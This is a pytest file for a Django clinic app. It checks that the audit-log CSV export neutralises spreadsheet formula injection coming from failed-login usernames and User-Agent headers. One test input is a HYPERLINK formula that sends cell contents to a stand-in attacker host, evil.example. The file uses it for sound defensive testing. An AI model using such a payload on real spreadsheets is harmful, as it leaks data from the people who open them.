"""The audit CSV neutralises formula text (OWASP "CSV Injection"; issue 13, defect 6; security.md H4/H6).

An anonymous sign-in attempt chooses its username and its User-Agent; both are written to the audit log and, without
neutralising, would open as live formulas in the clinic admin's spreadsheet.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from django.test import Client
from django.urls import reverse

from ketaclinic.csv_safe import FORMULA_STARTS, neutralise
from tests.conftest import sign_in

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def live_formulas(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]


def test_a_failed_login_username_and_user_agent_are_neutralised(dave: Any, client: Any) -> None:
    # Two addresses: repeats from one address within a minute are counted, not logged one by one (defect 7).
    robot = Client(HTTP_USER_AGENT="@SUM(1)", REMOTE_ADDR="192.0.2.10")
    robot.post(reverse("accounts:login"), {"username": LINK, "password": "wrong password 123"})
    Client(HTTP_USER_AGENT="\t=1", REMOTE_ADDR="192.0.2.11").post(
        reverse("accounts:login"), {"username": "-1+1", "password": "x" * 12}
    )
    sign_in(client, dave)
    response = client.get(reverse("audit:export"), {"action": "auth.login_failed"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert live_formulas(rows) == []
    by_user = {row[2]: row for row in rows[1:]}
    assert set(by_user) == {"'" + LINK, "'-1+1"}
    assert by_user["'" + LINK][8] == "'@SUM(1)"
    assert by_user["'-1+1"][8] == "'\t=1"
    assert all(row[0].isdigit() for row in rows[1:])  # the sequence numbers are still numbers


def test_numbers_pass_unchanged_and_text_is_prefixed() -> None:
    from decimal import Decimal

    assert neutralise(Decimal("-0.50")) == Decimal("-0.50")
    assert neutralise(-3) == -3 and neutralise(-0.5) == -0.5
    assert neutralise("-2.50") == "-2.50"  # a number formatted as text is still only a number
    assert [neutralise(v) for v in ("=1", "+1", "-1+1", "@A1", "\t=1", "\r=1")] == [
        "'=1",
        "'+1",
        "'-1+1",
        "'@A1",
        "'\t=1",
        "'\r=1",
    ]
    assert neutralise("Rivera, Pat") == "Rivera, Pat" and neutralise(None) == "" and neutralise(True) == "True"
